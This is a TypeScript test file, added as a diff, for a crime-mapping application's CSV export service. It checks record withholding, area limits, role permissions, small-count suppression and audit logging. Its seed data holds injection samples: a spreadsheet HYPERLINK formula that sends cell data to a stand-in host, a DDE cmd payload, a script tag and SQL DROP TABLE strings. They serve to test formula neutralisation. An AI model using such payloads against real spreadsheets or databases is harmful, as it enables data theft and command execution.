@@ -1,0 +1,508 @@
+/**
+ * CSV exports on both engines: incident exports hold exactly the cell's or area's unrestricted records
+ * (handling code C and sensitive records never leave, even for an administrator), keep to the user's
+ * areas, neutralise formulas in text, refuse more rows than the cap and roles without the rights;
+ * cell-count exports suppress small counts and fine-cell sensitive counts for a public audience; every
+ * export is audited with its filters, rows and withheld count.
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parse } from 'csv-parse/sync';
+import { cellToBoundary, cellToChildren, cellToLatLng, cellToParent, latLngToCell } from 'h3-js';
+import { engines, createTestDatabase, type TestDatabase } from '../helpers/db';
+import {
+	exportCellCounts,
+	exportIncidents,
+	INCIDENT_EXPORT_COLUMNS,
+	type CellCountExportQuery,
+	type CsvExport
+} from '../../src/lib/server/services/exports';
+import { ServiceError } from '../../src/lib/server/services/errors';
+import { searchAudit } from '../../src/lib/server/db/queries/audit';
+import type { AuthUser } from '../../src/lib/server/auth/permissions';
+import type { BBox } from '../../src/lib/schemas/cells';
+
+const origin = { ip: '192.0.2.45', userAgent: 'vitest-exports' };
+
+// Incidents: two res-11 cells inside one res-9 cell, and one outside it.
+const CELL9 = latLngToCell(51.5155, -0.0922, 9);
+const CHILDREN = cellToChildren(CELL9, 11);
+const WEST = CHILDREN[0];
+const EAST = CHILDREN[CHILDREN.length - 1];
+const OUTSIDE = cellToChildren(latLngToCell(51.52, -0.07, 9), 11)[0];
+
+const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")';
+const DDE = "+cmd|' /C calc'!A0";
+const SCRIPT = '<script>alert(1)</script>';
+const SQL = "'; DROP TABLE incidents;--";
+const MULTILINE = '@SUM(1+1)\nsecond line, "quoted"';
+
+interface Seed {
+	ext: string;
+	cell: string;
+	day: string;
+	code?: string;
+	sensitive?: boolean;
+	category?: string;
+	type?: string;
+	location?: string;
+}
+
+const SEEDS: Seed[] = [
+	{ ext: 'w1', cell: WEST, day: '2024-01-10', location: HYPERLINK },
+	{ ext: 'w2', cell: WEST, day: '2024-02-10', category: 'burglary', location: DDE },
+	{ ext: 'w3', cell: WEST, day: '2024-03-10', code: 'c', location: 'restricted-w3' },
+	{ ext: 'e1', cell: EAST, day: '2024-01-11', type: SQL, location: SCRIPT },
+	{
+		ext: 'e2',
+		cell: EAST,
+		day: '2024-01-12',
+		sensitive: true,
+		category: 'violence-and-sexual-offences',
+		location: 'sensitive-e2'
+	},
+	{ ext: 'e3', cell: EAST, day: '2024-01-14', location: MULTILINE },
+	{ ext: 'o1', cell: OUTSIDE, day: '2024-01-13', location: 'On or near Outside Street' }
+];
+
+// Rollup counts for the cell-count exports: four res-9 cells under one res-7 cell (one res-10 child
+// each). A: 7 + 2 sensitive; B: 3; C: 2 sensitive only; D: 5 + 1 sensitive.
+const P7 = latLngToCell(51.5, -0.12, 7);
+const [A9, B9, C9, D9] = cellToChildren(P7, 9);
+const child10 = (c: string) => cellToChildren(c, 10)[0];
+const SENSITIVE_CATEGORY = 'violence-and-sexual-offences';
+const ROLLUP: { cell: string; day: string; category: string; n: number; sensitive: number }[] = [
+	{ cell: A9, day: '2024-01-15', category: 'burglary', n: 7, sensitive: 0 },
+	{ cell: A9, day: '2024-01-15', category: SENSITIVE_CATEGORY, n: 2, sensitive: 2 },
+	{ cell: A9, day: '2023-06-01', category: 'burglary', n: 1, sensitive: 0 },
+	{ cell: B9, day: '2024-01-15', category: 'burglary', n: 3, sensitive: 0 },
+	{ cell: C9, day: '2024-01-15', category: SENSITIVE_CATEGORY, n: 2, sensitive: 2 },
+	{ cell: D9, day: '2024-01-15', category: 'burglary', n: 5, sensitive: 0 },
+	{ cell: D9, day: '2024-01-15', category: SENSITIVE_CATEGORY, n: 1, sensitive: 1 }
+];
+
+function bboxOf(cell: string): BBox {
+	const pts = cellToBoundary(cell);
+	const lats = pts.map((p) => p[0]);
+	const lngs = pts.map((p) => p[1]);
+	return [Math.min(...lngs), Math.min(...lats), Math.max(...lngs), Math.max(...lats)];
+}
+const P7_BOX = bboxOf(P7);
+
+function user(role: AuthUser['role'], areaIds: number[] = []): AuthUser {
+	return {
+		id: 1,
+		username: `x-${role}${areaIds.length ? '-limited' : ''}`,
+		displayName: role,
+		role,
+		areaIds
+	};
+}
+
+/** The CSV as a spreadsheet would read it: header and records, byte order mark removed. */
+function records(file: CsvExport): string[][] {
+	return parse(file.csv, { bom: true }) as string[][];
+}
+
+function column(file: CsvExport, name: string): string[] {
+	const [header, ...rows] = records(file);
+	const i = header.indexOf(name);
+	expect(i, `column ${name}`).toBeGreaterThanOrEqual(0);
+	return rows.map((r) => r[i]);
+}
+
+describe.each(engines())('CSV exports on %s', (engine) => {
+	let t: TestDatabase;
+	let westArea = 0;
+	let bigArea = 0;
+	let rollupArea = 0;
+
+	beforeAll(async () => {
+		t = await createTestDatabase(engine);
+		await t.db.query(`INSERT INTO users (id, username, display_name, password_hash, role)
+			VALUES (1, 'seed', 'seed', 'x', 'admin')`);
+		const [src] = await t.db.query<{ id: number }>(
+			`INSERT INTO sources (name, kind, category) VALUES ('test', 'internal', 'crime') RETURNING id`
+		);
+		const sourceId = Number(src.id);
+		const at = SEEDS.map((s) => cellToLatLng(s.cell));
+		await t.db.query(
+			`INSERT INTO incidents (source_id, external_id, category, original_type, occurred_from,
+			   occurred_to, location_precision, location_text, geom, h3, handling_code, sensitive)
+			 SELECT $1, ext, cat, typ, (dy || 'T12:00:00Z')::timestamptz, (dy || 'T12:00:00Z')::timestamptz,
+			   'exact', loc, ST_SetSRID(ST_MakePoint(lng, lat), 4326), h, code, sens
+			 FROM unnest($2::text[], $3::text[], $4::text[], $5::text[], $6::text[], $7::float8[],
+			   $8::float8[], $9::bigint[], $10::text[], $11::boolean[])
+			   AS u(ext, cat, typ, dy, loc, lng, lat, h, code, sens)`,
+			[
+				sourceId,
+				SEEDS.map((s) => s.ext),
+				SEEDS.map((s) => s.category ?? 'anti-social-behaviour'),
+				SEEDS.map((s) => s.type ?? s.category ?? 'anti-social-behaviour'),
+				SEEDS.map((s) => s.day),
+				SEEDS.map((s) => s.location ?? null),
+				at.map((p) => p[1]),
+				at.map((p) => p[0]),
+				SEEDS.map((s) => BigInt(`0x${s.cell}`).toString()),
+				SEEDS.map((s) => s.code ?? 'P'),
+				SEEDS.map((s) => s.sensitive ?? false)
+			]
+		);
+		const envelope = async (code: string, [w, s, e, n]: BBox) => {
+			const [a] = await t.db.query<{ id: number }>(
+				`INSERT INTO areas (kind, code, name, geom) VALUES ('beat', $1, $1,
+				   ST_Multi(ST_MakeEnvelope($2, $3, $4, $5, 4326))) RETURNING id`,
+				[code, w, s, e, n]
+			);
+			return Number(a.id);
+		};
+		// West: a small square about the west child's centre; Big: all seven incidents.
+		const [wLat, wLng] = cellToLatLng(WEST);
+		westArea = await envelope('W', [wLng - 0.0002, wLat - 0.0002, wLng + 0.0002, wLat + 0.0002]);
+		const lats = at.map((p) => p[0]);
+		const lngs = at.map((p) => p[1]);
+		bigArea = await envelope('BIG', [
+			Math.min(...lngs) - 0.001,
+			Math.min(...lats) - 0.001,
+			Math.max(...lngs) + 0.001,
+			Math.max(...lats) + 0.001
+		]);
+		await t.db.query(
+			`INSERT INTO cell_day_counts (h3, day, category, source_id, n, harm, sensitive)
+			 SELECT h, dy, cat, $1, n, n, s
+			 FROM unnest($2::bigint[], $3::date[], $4::text[], $5::int[], $6::int[]) AS u(h, dy, cat, n, s)`,
+			[
+				sourceId,
+				ROLLUP.map((r) => BigInt(`0x${child10(r.cell)}`).toString()),
+				ROLLUP.map((r) => r.day),
+				ROLLUP.map((r) => r.category),
+				ROLLUP.map((r) => r.n),
+				ROLLUP.map((r) => r.sensitive)
+			]
+		);
+		// An area whose resolution-10 cover holds A's and B's cells only.
+		rollupArea = await envelope('AB', P7_BOX);
+		await t.db.query(`INSERT INTO area_cells (area_id, h3) SELECT $1, unnest($2::bigint[])`, [
+			rollupArea,
+			[A9, B9].map((c) => BigInt(`0x${child10(c)}`).toString())
+		]);
+	});
+	afterAll(async () => t?.drop());
+
+	const cellExport = (who: AuthUser, q: Partial<CellCountExportQuery>, options = {}) =>
+		exportCellCounts(
+			t.db,
+			who,
+			{ res: 9, categories: [], audience: 'internal', bbox: P7_BOX, ...q },
+			origin,
+			options
+		);
+
+	describe('incident records', () => {
+		it('holds exactly the cell’s unrestricted records, oldest first, in the documented columns', async () => {
+			const file = await exportIncidents(
+				t.db,
+				user('analyst'),
+				{ cell: CELL9, categories: [] },
+				origin
+			);
+			expect(file).toMatchObject({ rows: 4, withheld: 2 });
+			expect(records(file)[0]).toEqual([...INCIDENT_EXPORT_COLUMNS]);
+			expect(column(file, 'external_id')).toEqual(['w1', 'e1', 'e3', 'w2']);
+			expect(column(file, 'source')).toEqual(['test', 'test', 'test', 'test']);
+			expect(column(file, 'occurred_from')[0]).toBe('2024-01-10T12:00:00.000Z');
+			expect(column(file, 'h3')).toEqual([WEST, EAST, EAST, WEST]);
+			const [lat, lng] = cellToLatLng(WEST);
+			expect(Number(column(file, 'longitude')[0])).toBeCloseTo(lng, 5);
+			expect(Number(column(file, 'latitude')[0])).toBeCloseTo(lat, 5);
+			expect(file.filename).toBe(`beatwise-incidents-cell-${CELL9}.csv`);
+		});
+
+		it('never exports handling code C or sensitive records, not even for an administrator', async () => {
+			for (const role of ['admin', 'supervisor'] as const) {
+				const file = await exportIncidents(
+					t.db,
+					user(role),
+					{ cell: CELL9, categories: [] },
+					origin
+				);
+				expect(file).toMatchObject({ rows: 4, withheld: 2 });
+				expect(column(file, 'external_id')).not.toContain('w3');
+				expect(column(file, 'external_id')).not.toContain('e2');
+				expect(file.csv).not.toMatch(/restricted-w3|sensitive-e2|violence-and-sexual-offences/);
+			}
+		});
+
+		it('neutralises formulas in text and keeps negative coordinates as numbers', async () => {
+			const file = await exportIncidents(
+				t.db,
+				user('analyst'),
+				{ cell: CELL9, categories: [] },
+				origin
+			);
+			expect(column(file, 'location_text')).toEqual([
+				`'${HYPERLINK}`,
+				SCRIPT,
+				`'${MULTILINE}`,
+				`'${DDE}`
+			]);
+			expect(column(file, 'original_type')[1]).toBe(SQL);
+			// Nothing a spreadsheet would evaluate: no field starts =, +, @, tab or CR; '-' only in numbers.
+			const fields = records(file).flat();
+			expect(fields.filter((f) => /^[=+@\t\r]/.test(f))).toEqual([]);
+			expect(fields.filter((f) => f.startsWith('-'))).toEqual(column(file, 'longitude'));
+			expect(column(file, 'longitude').every((v) => /^-0\.\d{1,5}$/.test(v))).toBe(true);
+			// Raw body: the hyperlink is guarded and quoted, the multi-line text is one quoted field.
+			expect(file.csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click me"")"`);
+			expect(file.csv).toContain(`"'@SUM(1+1)\nsecond line, ""quoted"""`);
+			expect(records(file)).toHaveLength(5);
+		});
+
+		it('keeps to the user’s areas', async () => {
+			const file = await exportIncidents(
+				t.db,
+				user('analyst', [westArea]),
+				{ cell: CELL9, categories: [] },
+				origin
+			);
+			expect(file).toMatchObject({ rows: 2, withheld: 1 });
+			expect(column(file, 'external_id')).toEqual(['w1', 'w2']);
+			// An area export outside the user's areas holds only what lies inside both.
+			const big = await exportIncidents(
+				t.db,
+				user('analyst', [westArea]),
+				{ area: bigArea, categories: [] },
+				origin
+			);
+			expect(column(big, 'external_id')).toEqual(['w1', 'w2']);
+		});
+
+		it('exports one area’s records by ST_Covers, with date and category filters', async () => {
+			const all = await exportIncidents(
+				t.db,
+				user('analyst'),
+				{ area: bigArea, categories: [] },
+				origin
+			);
+			expect(all).toMatchObject({ rows: 5, withheld: 2 });
+			expect(column(all, 'external_id')).toEqual(['w1', 'e1', 'o1', 'e3', 'w2']);
+			expect(all.filename).toBe(`beatwise-incidents-area-${bigArea}.csv`);
+			const west = await exportIncidents(
+				t.db,
+				user('analyst'),
+				{ area: westArea, categories: [] },
+				origin
+			);
+			expect(column(west, 'external_id')).toEqual(['w1', 'w2']);
+			const filtered = await exportIncidents(
+				t.db,
+				user('analyst'),
+				{
+					area: bigArea,
+					from: '2024-01-11',
+					to: '2024-02-28',
+					categories: ['burglary', 'anti-social-behaviour']
+				},
+				origin
+			);
+			expect(column(filtered, 'external_id')).toEqual(['e1', 'o1', 'e3', 'w2']);
+			expect(filtered.withheld).toBe(0);
+			expect(filtered.filename).toBe(
+				`beatwise-incidents-area-${bigArea}-from-2024-01-11-to-2024-02-28.csv`
+			);
+		});
+
+		it('refuses more rows than the cap, naming the limit; exactly the cap is fine', async () => {
+			const q = { cell: CELL9, categories: [] };
+			await expect(
+				exportIncidents(t.db, user('analyst'), q, origin, { maxRows: 3 })
+			).rejects.toMatchObject({
+				code: 'E_PARAMETER',
+				status: 400,
+				message: expect.stringMatching(/4 rows, more than the limit of 3/)
+			});
+			const atCap = await exportIncidents(t.db, user('analyst'), q, origin, { maxRows: 4 });
+			expect(atCap.rows).toBe(4);
+		});
+
+		it('refuses roles without export:create or incidents:detail, and bad parameters', async () => {
+			const q = { cell: CELL9, categories: [] };
+			await expect(exportIncidents(t.db, user('planner'), q, origin)).rejects.toThrow(
+				/incident-level detail/
+			);
+			for (const role of ['officer', 'viewer', 'community'] as const) {
+				await expect(exportIncidents(t.db, user(role), q, origin)).rejects.toThrow(/exports/);
+			}
+			const bad: [Parameters<typeof exportIncidents>[2], string][] = [
+				[{ cell: CELL9, area: bigArea, categories: [] }, 'E_PARAMETER'],
+				[{ categories: [] }, 'E_PARAMETER'],
+				[{ cell: WEST, categories: [] }, 'E_PARAMETER'],
+				[{ cell: cellToParent(CELL9, 4), categories: [] }, 'E_PARAMETER'],
+				[{ cell: "8a'; DROP TABLE", categories: [] }, 'E_PARAMETER'],
+				[{ area: 999_999, categories: [] }, 'E_UNKNOWN_AREA'],
+				[{ cell: CELL9, from: '2024-03-01', to: '2024-01-01', categories: [] }, 'E_DATE_RANGE']
+			];
+			for (const [query, code] of bad) {
+				const failure = await exportIncidents(t.db, user('analyst'), query, origin).catch((e) => e);
+				expect(failure, JSON.stringify(query)).toBeInstanceOf(ServiceError);
+				expect(failure.code, JSON.stringify(query)).toBe(code);
+			}
+			const n = await t.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM incidents`);
+			expect(Number(n[0].n)).toBe(SEEDS.length);
+		});
+	});
+
+	describe('cell counts', () => {
+		const rows = (file: CsvExport) => records(file).slice(1);
+
+		it('internal: exact counts per cell, sensitive included, sorted by cell', async () => {
+			const file = await cellExport(user('planner'), { from: '2024-01-01', to: '2024-01-31' });
+			expect(records(file)[0]).toEqual(['h3', 'resolution', 'incidents']);
+			expect(rows(file)).toEqual(
+				[
+					[A9, '9', '9'],
+					[B9, '9', '3'],
+					[C9, '9', '2'],
+					[D9, '9', '6']
+				].sort((a, b) => a[0].localeCompare(b[0]))
+			);
+			expect(file).toMatchObject({ rows: 4, withheld: 0 });
+			// Without dates: the whole range of the rollup (A's 2023 incident too).
+			const whole = await cellExport(user('analyst'), {});
+			expect(rows(whole).find((r) => r[0] === A9)?.[2]).toBe('10');
+		});
+
+		it('public: counts 1–4 become "<5", sensitive records leave fine cells, empty cells are dropped', async () => {
+			const file = await cellExport(user('analyst'), {
+				from: '2024-01-01',
+				to: '2024-01-31',
+				audience: 'public'
+			});
+			expect(rows(file)).toEqual(
+				[
+					[A9, '9', '7'],
+					[B9, '9', '<5'],
+					[D9, '9', '5']
+				].sort((a, b) => a[0].localeCompare(b[0]))
+			);
+			// C held only sensitive records: no row at all (a 0 would give them away).
+			expect(rows(file).map((r) => r[0])).not.toContain(C9);
+			expect(file).toMatchObject({ rows: 3, withheld: 5 });
+			expect(file.filename).toBe(
+				'beatwise-cells-res9-public-bbox-from-2024-01-01-to-2024-01-31.csv'
+			);
+		});
+
+		it('public: sensitive categories count at resolution 7, and at fine cells only the rest shows', async () => {
+			const coarse = await cellExport(user('analyst'), {
+				res: 7,
+				from: '2024-01-01',
+				to: '2024-01-31',
+				audience: 'public'
+			});
+			expect(rows(coarse)).toEqual([[P7, '7', '20']]);
+			expect(coarse.withheld).toBe(0);
+			const sensitiveOnly = await cellExport(user('analyst'), {
+				res: 7,
+				categories: [SENSITIVE_CATEGORY],
+				audience: 'public'
+			});
+			expect(rows(sensitiveOnly)).toEqual([[P7, '7', '5']]);
+			const fine = await cellExport(user('analyst'), {
+				categories: [SENSITIVE_CATEGORY],
+				audience: 'public'
+			});
+			expect(rows(fine)).toEqual([]);
+			expect(fine).toMatchObject({ rows: 0, withheld: 5 });
+		});
+
+		it('counts an area’s cover only', async () => {
+			const file = await cellExport(user('analyst'), {
+				bbox: undefined,
+				area: rollupArea,
+				from: '2024-01-01',
+				to: '2024-01-31'
+			});
+			expect(rows(file).map((r) => [r[0], r[2]])).toEqual(
+				[
+					[A9, '9'],
+					[B9, '3']
+				].sort((a, b) => a[0].localeCompare(b[0]))
+			);
+		});
+
+		it('refuses roles without export:create, bad resolutions and the row cap', async () => {
+			for (const role of ['officer', 'viewer', 'community'] as const) {
+				await expect(cellExport(user(role), {})).rejects.toThrow(/exports/);
+			}
+			for (const res of [6, 11]) {
+				await expect(cellExport(user('analyst'), { res })).rejects.toMatchObject({
+					code: 'E_PARAMETER',
+					message: expect.stringMatching(/^res:/)
+				});
+			}
+			await expect(cellExport(user('analyst'), { area: rollupArea })).rejects.toMatchObject({
+				code: 'E_PARAMETER'
+			});
+			await expect(cellExport(user('analyst'), {}, { maxRows: 2 })).rejects.toThrow(
+				/more than the limit of 2/
+			);
+		});
+	});
+
+	it('audits every export with who, what, the filters, rows and withheld', async () => {
+		const before = await searchAudit(t.db, { action: 'export', page: 1, pageSize: 500 });
+		await exportIncidents(
+			t.db,
+			user('supervisor'),
+			{ cell: CELL9, from: '2024-01-01', categories: ['anti-social-behaviour'] },
+			origin
+		);
+		await cellExport(user('planner'), {
+			from: '2024-01-01',
+			to: '2024-01-31',
+			audience: 'public'
+		});
+		const after = await searchAudit(t.db, { action: 'export', page: 1, pageSize: 500 });
+		expect(after.total).toBe(before.total + 2);
+		const [cells, incidents] = after.rows;
+		expect(incidents).toMatchObject({
+			username: 'x-supervisor',
+			action: 'export',
+			object: `incidents:cell:${CELL9}`,
+			ip: '192.0.2.45',
+			userAgent: 'vitest-exports',
+			detail: {
+				kind: 'incidents',
+				cell: CELL9,
+				res: 9,
+				area: null,
+				from: '2024-01-01',
+				to: null,
+				categories: ['anti-social-behaviour'],
+				rows: 3,
+				withheld: 1,
+				areaIds: null
+			}
+		});
+		expect(cells).toMatchObject({
+			username: 'x-planner',
+			object: `cells:bbox:${P7_BOX.join(',')}`,
+			detail: {
+				kind: 'cells',
+				audience: 'public',
+				res: 9,
+				from: '2024-01-01',
+				to: '2024-01-31',
+				rows: 3,
+				withheld: 5,
+				suppressed: 1
+			}
+		});
+		// The area-limited export earlier recorded its limits; refused exports wrote nothing.
+		const limited = after.rows.filter((r) => r.username === 'x-analyst-limited');
+		expect(limited.map((r) => r.detail.areaIds)).toEqual([[westArea], [westArea]]);
+		expect(
+			after.rows.filter((r) => ['x-officer', 'x-viewer', 'x-community'].includes(r.username!))
+		).toEqual([]);
+	});
+});
